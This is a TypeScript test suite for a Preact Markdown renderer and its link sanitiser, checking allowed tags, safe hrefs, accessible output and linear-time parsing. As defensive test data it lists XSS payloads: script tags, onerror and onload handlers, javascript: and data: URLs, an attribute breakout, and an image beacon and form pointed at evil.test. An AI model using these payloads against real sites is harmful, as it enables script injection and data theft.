import assert from "node:assert/strict";
import { test } from "node:test";
import { renderToString } from "preact-render-to-string";
import { Markdown, safeHref } from "../src/markdown";

const html = (text: string) => renderToString(<Markdown text={text} />);

test("only addresses of the web and of mail are linked", () => {
  assert.equal(safeHref("https://example.org/a?b#c"), "https://example.org/a?b#c");
  assert.equal(safeHref("mailto:a@example.org"), "mailto:a@example.org");
  const refused = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "vbscript:x",
    "file:///etc/passwd", "blob:https://example.org/1", "//example.org", "/omega", "#top", "", "https://"];
  for (const href of refused) assert.equal(safeHref(href), null, href);
});

test("a link tells its target nothing and may do nothing here", () => {
  assert.equal(
    html("[docs](https://example.org/a)"),
    '<div class="prose"><p><a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow ugc">docs</a></p></div>',
  );
});

test("no message makes an element that loads, runs or frames anything", () => {
  const hostile = [
    "![x](http://evil.test/?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "text <svg/onload=alert(1)> text",
    "[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>",
    "<a href='javascript:alert(1)' style='position:fixed'>x</a>", "`<b>`\n\n```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |", "- <form action=//evil.test><input>", "# <style>*{}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "[x](https://example.org \"t\\\" onmouseover=alert(1)\")", "<!-- <script>alert(1)</script> -->",
  ];
  const allowed = new Set(["div", "p", "a", "span", "code", "pre", "figure", "figcaption", "button", "table", "thead", "tbody",
    "tr", "th", "td", "ul", "li", "h3", "em", "strong"]);
  for (const text of hostile) {
    const drawn = html(text);
    for (const [, tag] of drawn.matchAll(/<\/?([a-z0-9]+)/gi)) assert.ok(allowed.has(String(tag)), `${text} -> ${drawn}`);
    for (const [, attribute] of drawn.matchAll(/<[a-z0-9]+[^>]*?\s(on[a-z]+|style|src|srcdoc)=/gi)) {
      assert.fail(`${text} -> ${attribute} in ${drawn}`);
    }
    for (const [, href] of drawn.matchAll(/href="([^"]*)"/g)) assert.match(String(href), /^https?:/, text);
  }
});

test("an image is a link that says so", () => {
  const drawn = html("![a robot](https://example.org/robot.png)");
  assert.match(drawn, /<a href="https:\/\/example\.org\/robot\.png"[^>]*>\[image: a robot\]<\/a>/);
});

test("the usual Markdown becomes what it means", () => {
  const drawn = html("# T\n\n**b** _e_ ~~d~~ `c`\n\n1. one\n2. two\n\n- [x] done\n\n> q\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```js\nx &amp; y\n```\n\na &amp; b\n\n---");
  for (const part of ["<h3>T</h3>", "<strong>b</strong>", "<em>e</em>", "<del>d</del>", "<code>c</code>", '<ol start="1"><li>',
    'aria-label="done"', "<blockquote><p>q</p></blockquote>", '<td class="align-right">2</td>', "<code>x &amp;amp; y</code>", "<p>a &amp; b</p>", "<hr/>"]) {
    assert.ok(drawn.includes(part), `${part} in ${drawn}`);
  }
});

test("headings never skip a level", () => {
  const levels = [...html("## a\n\n#### b\n\n# c\n\n###### d\n\n# e").matchAll(/<h(\d)>/g)].map(([, level]) => Number(level));
  assert.deepEqual(levels, [3, 4, 3, 4, 3]);
});

test("a message that is not finished Markdown is drawn all the same", () => {
  const text = "# T\n\n**b [l](https://x.y \n```js\n| a |\n|--|\n- > `";
  for (let at = 0; at <= text.length; at += 1) assert.ok(html(text.slice(0, at)).startsWith('<div class="prose">'));
});

test("hostile Markdown is drawn in time that grows with its length, or as the text it is", () => {
  const units = ["*a ", "**a **", "_a_b", "`", "`a", "``a`", "[", "[a](", "[a][b]", "![a", "<", "<a ", "<!--", "<![CDATA[", "> ", ">> a\n",
    "- ", "- a\n  ", "1. a\n", "1. ", "|a", "|a|b|\n|-|-|\n", "# ", "~~~\n", "[a]: b\n", "a\n\n", "a  \n", "*", "_", "a*", "***a", "~~a",
    "\\", "&amp;", "http://a.b ", "www.a.b", "a@b.c ", "<a@b.c", "\t", "    a\n", "+ ", "a*b_c", "*a_", "_*", "-", "- [ ] a\n", "||\n",
    "<div>\n", "</", "<b>a", "- > ", "> - ", "* a\n\n  "];
  const drawn = (unit: string, length: number) => {
    const text = unit.repeat(Math.ceil(length / unit.length));
    let least = Number.POSITIVE_INFINITY;
    for (let tries = 0; tries < 3; tries += 1) {
      const before = process.cpuUsage();
      html(text);
      const used = process.cpuUsage(before);
      least = Math.min(least, (used.user + used.system) / 1000);
    }
    return least;
  };
  for (const unit of units) {
    // The engine's own threads count too, and are at work when they like: what is quadratic is so each time.
    const tries: (readonly [number, number])[] = [];
    const isLinear = () => tries.some(([once, twice]) => twice < 40 || twice < 3 * once);
    while (tries.length < 3 && !isLinear()) tries.push([drawn(unit, 20_000), drawn(unit, 40_000)]);
    assert.ok(isLinear(), `${JSON.stringify(unit)}: ${tries.join("; ")} ms`);
  }
});

test("long answers of every day are read as Markdown", () => {
  const table = `| a | b |\n|---|---|\n${"| **x** | `y` |\n".repeat(500)}`;
  const list = "- *one* and [two](https://example.org)\n".repeat(800);
  const code = `\`\`\`c\n${"int *a = b[0] & c[1];\n".repeat(800)}\`\`\`\n`;
  const prose = "Some **strong** and _soft_ words with `code`.\n\n".repeat(500);
  for (const [text, tag] of [[table, "<table>"], [list, "<ul>"], [code, "<figure"], [prose, "<strong>"]] as const) {
    assert.ok(html(text).includes(tag), tag);
  }
});
